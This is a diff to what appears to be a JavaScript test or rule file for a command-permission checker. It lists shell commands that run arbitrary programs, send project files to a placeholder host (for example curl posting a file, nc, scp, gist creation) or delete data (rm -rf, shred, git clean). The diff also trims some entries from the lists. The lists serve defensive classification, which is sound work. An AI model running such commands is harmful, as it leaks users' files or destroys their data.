@@ -44,19 +44,19 @@ const RUN_ANYTHING = [
   ...['make -f any-file', 'gradle -b any-file', 'mvn exec:exec', 'cmake -P any-script', 'ansible all -a any-program'],
   ...['awk -f any-script', 'gawk -f any-script', 'sed -f any-script', 'vim -c any-code', 'emacs --eval any-code'],
   ...['tar --to-command=any-program -xf any-file', 'rsync -e any-program any-file any-host:', 'crontab any-file'],
-  ...['gh extension exec any-program', 'terraform apply', 'systemctl start any-service'],
+  ...['gh extension exec any-program', 'systemctl start any-service'],
 ];
 /** Each sends a file of the project to a host that only the call names. */
 const SEND_ANYTHING = [
   ...['curl -d @any-file https://any-host.example', 'wget --post-file=any-file https://any-host.example'],
   ...['nc any-host.example 80', 'ncat any-host.example 80', 'scp any-file any-host:', 'sftp any-host', 'ftp any-host'],
   ...['http any-host.example', 'aws s3 cp any-file s3://any-bucket', 'gsutil cp any-file gs://any-bucket'],
-  ...['gh gist create any-file', 'gh api any-path -f any-word', 'npm publish', 'git push https://any-host.example'],
+  ...['gh gist create any-file', 'gh api any-path -f any-word', 'git push https://any-host.example'],
 ];
 const REMOVE_ANYTHING = [
   'rm -rf any-folder',
-  'git clean -fdx',
-  'git reset --hard',
+  'git clean -fdx any-folder',
+  'git reset --hard any-word',
   'shred any-file',
   'dd if=any-file of=other-file',
 ];
